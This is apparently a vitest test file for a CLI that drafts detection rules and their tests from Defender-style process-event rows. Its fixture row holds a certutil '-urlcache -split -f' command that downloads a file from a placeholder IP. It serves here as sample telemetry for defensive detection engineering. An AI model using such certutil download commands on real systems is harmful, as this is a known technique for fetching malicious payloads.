import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkCommand } from '../../../src/cli/actions/rules/check.ts';
import { lintCommand } from '../../../src/cli/actions/rules/lint.ts';
import { newCommand } from '../../../src/cli/actions/rules/new.ts';
import { testCommand } from '../../../src/cli/actions/rules/test.ts';
import { captured, folderWith, PROCESS_TABLE } from './support.ts';

const SIGNAL = new AbortController().signal;

const ROW = {
  ActionType: 'ProcessCreated',
  FileName: 'certutil.exe',
  ProcessCommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.txt',
  InitiatingProcessFileName: 'cmd.exe',
  AccountName: 'ann',
};

async function drafted(row: unknown, files: Readonly<Record<string, string>> = {}) {
  const folder = await folderWith({ ...files, 'row.json': JSON.stringify(row) });
  return { transforms: join(folder, 't'), from: join(folder, 'row.json') };
}

describe('rules new --from', () => {
  it('gives up on what never ends', async () => {
    const { transforms } = await drafted(ROW);
    const options = { transforms, table: 'DeviceProcessEvents', from: '/dev/zero' };
    await expect(newCommand(options, captured())).rejects.toMatchObject({
      code: 'file_unreadable',
      message: expect.stringContaining('more than 16,777,216 bytes'),
    });
  });

  it('writes a rule and its test, with which check, lint and test are content at once', async () => {
    const row = { category: 'AdvancedHunting-DeviceProcessEvents', properties: ROW };
    const { transforms, from } = await drafted(row);
    const out = captured();
    expect(await newCommand({ transforms, from }, out)).toBe(0);
    const [rule = '', test = ''] = out.text().split('\n');
    expect(await readFile(rule, 'utf8')).toContain('service: DeviceProcessEvents');
    expect(await readFile(test, 'utf8')).not.toContain('ann');
    const found = captured();
    const options = { transforms, format: 'text' } as const;
    expect(await checkCommand(options, found), found.text()).toBe(0);
    const linted = captured();
    expect(await lintCommand({ transforms, format: 'json', failOn: 'error' }, linted)).toBe(0);
    // Only a person can say what of ATT&CK it is.
    expect(JSON.parse(linted.text()).map(({ code }: { code: string }) => code)).toEqual(['no-tags']);
    expect(await testCommand(options, found, SIGNAL), found.text()).toBe(0);
  });

  it('overwrites nothing', async () => {
    const { transforms, from } = await drafted(ROW);
    const options = { transforms, from, table: 'DeviceProcessEvents' };
    expect(await newCommand(options, captured())).toBe(0);
    await expect(newCommand(options, captured())).rejects.toMatchObject({ code: 'file_exists' });
  });

  it('says which filter keeps the row from every rule', async () => {
    const { transforms, from } = await drafted(
      { ...ROW, InitiatingProcessFileName: 'MsSense.exe' },
      { 't/DeviceProcessEvents.yaml': PROCESS_TABLE },
    );
    const out = captured();
    expect(await newCommand({ transforms, from, table: 'deviceprocessevents' }, out)).toBe(0);
    expect(out.notes()).toContain('the filter "The sensor" drops this row');
    const found = captured();
    expect(await testCommand({ transforms, format: 'text' }, found, SIGNAL), found.text()).toBe(0);
  });

  it('goes by the whole row, and keeps in the test what its fate depends on', async () => {
    const filter = (condition: string) => ({
      't/DeviceProcessEvents.yaml': `table: DeviceProcessEvents\nfilter:\n  - title: lab\n    detection: { lab: { AccountName: ann }, condition: ${condition} }\n`,
    });
    const row = { ...ROW, DeviceName: 'secret' };
    const dropped = await drafted(row, filter('lab'));
    const out = captured();
    expect(await newCommand({ ...dropped, table: 'DeviceProcessEvents' }, out)).toBe(0);
    expect(out.notes()).toContain('the filter "lab" drops this row');
    const test = await readFile(out.text().split('\n')[1] ?? '', 'utf8');
    expect(test).toContain('AccountName: ann');
    expect(test).not.toContain('secret');
    // Without its account this row would be dropped, which it is not.
    const kept = await drafted(row, filter('not lab'));
    const other = captured();
    expect(await newCommand({ ...kept, table: 'DeviceProcessEvents' }, other)).toBe(0);
    expect(other.notes()).toBe('');
    const found = captured();
    for (const { transforms } of [dropped, kept]) {
      expect(await testCommand({ transforms, format: 'text' }, found, SIGNAL), found.text()).toBe(0);
    }
  });

  it('says that an exception keeps back the alert of the row', async () => {
    const { transforms, from } = await drafted(ROW, {
      't/exceptions/own.yaml':
        'exceptions:\n  - title: Ann\n    rules: [DeviceProcessEvents ProcessCreated certutil.exe cmd.exe]\n    detection: { ann: { AccountName: ann }, condition: ann }\n    owner: a\n',
    });
    const out = captured();
    expect(await newCommand({ transforms, from, table: 'DeviceProcessEvents' }, out)).toBe(0);
    expect(out.notes()).toContain('the rule raises no alert of this row');
  });

  it('needs a table and a row that holds something', async () => {
    const { transforms, from } = await drafted(ROW);
    await expect(newCommand({ transforms, from }, captured())).rejects.toMatchObject({
      code: 'table_needed',
    });
    const unknown = newCommand({ transforms, from, table: 'DeviceProcesEvents' }, captured());
    await expect(unknown).rejects.toThrow(/did you mean "DeviceProcessEvents"/);
    const nothing = await drafted({});
    const empty = newCommand({ ...nothing, table: 'DeviceEvents' }, captured());
    await expect(empty).rejects.toMatchObject({ code: 'row_unreadable' });
    await expect(newCommand({ transforms }, captured())).rejects.toThrow(/name a table, or a row/);
  });
});
